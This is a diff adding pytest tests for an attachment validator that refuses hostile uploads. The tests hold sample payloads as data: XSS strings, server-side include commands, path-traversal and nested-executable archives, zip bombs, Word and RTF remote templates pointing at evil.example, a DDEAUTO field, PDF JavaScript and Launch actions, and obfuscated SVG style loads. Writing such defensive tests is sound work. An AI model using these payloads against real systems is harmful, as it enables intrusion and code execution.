@@ -2,16 +2,21 @@
 
 import gzip
 import io
+import lzma
+import tarfile
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
 from PIL import ExifTags, Image
 from support import Site
 
+from plenary.attachments import packed as packing
 from plenary.attachments import svg
 from plenary.attachments.giveaways import giveaways
-from plenary.attachments.kinds import KINDS, RefusedError, check
+from plenary.attachments.kinds import KINDS, check
+from plenary.attachments.packed import RefusedError
 
 HTML = b"<!doctype html>\n<html><script>fetch('/en/')</script></html>\n"
 NEWS = "news/2024-11-07-opening/"
@@ -304,3 +309,133 @@ def test_a_document_that_gives_something_away_is_one_warning(small: Site) -> Non
     (told,) = [p for p in problems if p.place.file.endswith("a.pdf")]
     assert told.warning
     assert "`Zhang San`, comments, pictures that say where they were taken" in told.what
+
+
+def tarball(members: dict[str, bytes], mode: str = "w") -> bytes:
+    """Return a tar file."""
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
+        for name, content in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+    return out.getvalue()
+
+
+def relation(kind: str, target: str) -> dict[str, str | bytes]:
+    """Return a Word file that has something outside of it."""
+    inner = f'<Relationship Type="x/{kind}" Target="{target}" TargetMode="External"/>'
+    return WORD | {"word/_rels/x.xml.rels": f"<Relationships>{inner}</Relationships>"}
+
+
+def with_objects(objects: bytes) -> bytes:
+    """Return a PDF file that keeps objects compressed."""
+    return b"%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1>>stream\n" + zlib.compress(objects)
+
+
+XHTML_ATTACK = '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
+MACRO = packed(WORD | {"word/vbaProject.bin": "x"})
+DISGUISED: dict[str, bytes] = {
+    "link.csv": b'a,"<a href=javascript:alert(1)>x</a>"',
+    "slash.txt": b"<p/onmouseover=alert(1)>x",
+    "far.txt": b"<p " + b"a" * 600 + b" onclick=alert(1)>",
+    "server.txt": b'<!--#exec cmd="ls" -->',
+    "page.shtml.txt": b"x",
+    "dtd.xml": XHTML_ATTACK.encode("utf-16"),
+    "style.xml": '<?xml-stylesheet href="x.xsl"?><a/>'.encode("utf-16"),
+    "space.zip": packed({"x.hta ": "x"}),
+    "stop.zip": packed({"x.exe.": "x"}),
+    "shell.zip": packed({"x.scf": "x"}),
+    "inner.zip": packed({"a/inner.zip": packed({"x.exe": "MZ"})}),
+    "macro.zip": packed({"letter.docx": MACRO}),
+    "deep.zip": packed({"a.zip": packed({"a.zip": packed({"a.zip": packed({"a.zip": "x"})})})}),
+    "out.zip": packed({"../../x.txt": "x"}),
+    "root.zip": packed({"/etc/x": "x"}),
+    "drive.zip": packed({"C:\\x.txt": "x"}),
+    "program.tar": tarball({"x.exe": b"MZ"}),
+    "program.tgz": tarball({"x.exe": b"MZ"}, "w:gz"),
+    "program.tar.gz": tarball({"x.exe": b"MZ"}, "w:gz"),
+    "program.tar.xz": tarball({"x.exe": b"MZ"}, "w:xz"),
+    "program.tar.bz2": tarball({"a.zip": packed({"x.exe": "MZ"})}, "w:bz2"),
+    "program.gz": gzip.compress(b"MZ\x90\0"),
+    "template.docx": packed(relation("attachedTemplate", "http://evil.example/t.dotm")),
+    "share.docx": packed(relation("oleObject", "file://///evil.example/share/x")),
+    "field.docx": packed(WORD | {"word/document.xml": "<w:instrText> DDEAUTO cmd</w:instrText>"}),
+    "button.odt": packed(ODF | {"content.xml": '<x href="vnd.sun.star.script:a"/>'}),
+    "script.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
+    "launch.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S /Launch/F(cmd.exe)>>>>endobj",
+    "packed.pdf": with_objects(b"<</Names<</JavaScript 4 0 R>>>>"),
+    "template.rtf": rb"{\rtf1{\*\template http://evil.example/t.dotm}}",
+    "link.rtf": rb"{\rtf1{\object\objautlink x}}",
+}
+
+
+@pytest.mark.parametrize("name", DISGUISED)
+def test_what_runs_is_found_inside_archives_documents_and_other_encodings(name: str) -> None:
+    with pytest.raises(RefusedError):
+        check(name, DISGUISED[name])
+
+
+def test_archives_of_usual_files_are_welcome() -> None:
+    usual = packed({"a.docx": packed(WORD), "b/c.zip": packed({"photo.jpg": "x"})})
+    for name, data in {
+        "kit.zip": usual,
+        "kit.tar": tarball({"kit.zip": usual}),
+        "kit.tgz": tarball({"a.csv": b"1"}, "w:gz"),
+        "kit.csv.xz": lzma.compress(b"1;2\n"),
+        "linked.docx": packed(relation("hyperlink", "https://rivers.example/")),
+        "template.docx": packed(relation("attachedTemplate", "file:///C:\\Users\\li\\t.dotx")),
+        "plain.pdf": with_objects(b"<</Type/Catalog/Names 4 0 R>>"),
+    }.items():
+        check(name, data)
+
+
+def test_what_grows_beyond_measure_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(packing, "MOST_BYTES", 100_000)
+    zeros = b"0" * 2_000_000
+    for name, data in {
+        "a.csv.gz": gzip.compress(zeros),
+        "a.xz": lzma.compress(zeros),
+        "a.zip": zipped({"a.csv": zeros}),
+        "a.docx": zipped(WORD | {"word/x.xml": zeros}),
+    }.items():
+        with pytest.raises(RefusedError, match=r"times as large|more than"):
+            check(name, data)
+
+
+def zipped(members: dict[str, str | bytes]) -> bytes:
+    """Return a ZIP file that is compressed."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in members.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def test_a_template_s_place_on_a_computer_is_said() -> None:
+    word = packed(relation("attachedTemplate", "file:///C:\\Users\\li%20ming\\t.dotx"))
+    assert giveaways("a.docx", word) == ["the path `file:///C:\\Users\\li ming\\t.dotx`"]
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        "<style>@imp<metadata>x</metadata>ort 'https://evil.example';</style>",
+        "<style>a{fill:ur<e:x xmlns:e='urn:e'>x</e:x>l(https://evil.example)}</style>",
+        '<rect filter="u\\72l(//evil.example)"/>',
+        '<rect fill="src(//evil.example)"/>',
+        "<style>a{background:-webkit-cross-fade('//evil.example/x.png', red)}</style>",
+        "<g " + " ".join(f"a{number}='x'" for number in range(3000)) + "/>",
+    ],
+)
+def test_a_style_is_read_as_browsers_will_read_it(inside: str) -> None:
+    with pytest.raises(ValueError, match=r"loads|style has|attributes"):
+        svg.safe(DRAWING.format(inside).encode())
+
+
+def test_what_inkscape_writes_of_itself_is_left_out() -> None:
+    rdf = '<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><r:x/></r:RDF>'
+    drawing = DRAWING.format(f"<metadata>{rdf}</metadata><g/>")
+    assert svg.safe(drawing.encode()).decode() == DRAWING.format("<g/>")
+    declared = '<?xml version="1.0" encoding="ISO-8859-1"?>' + DRAWING.format("<text>é</text>")
+    assert "<text>é</text>" in svg.safe(declared.encode()).decode()
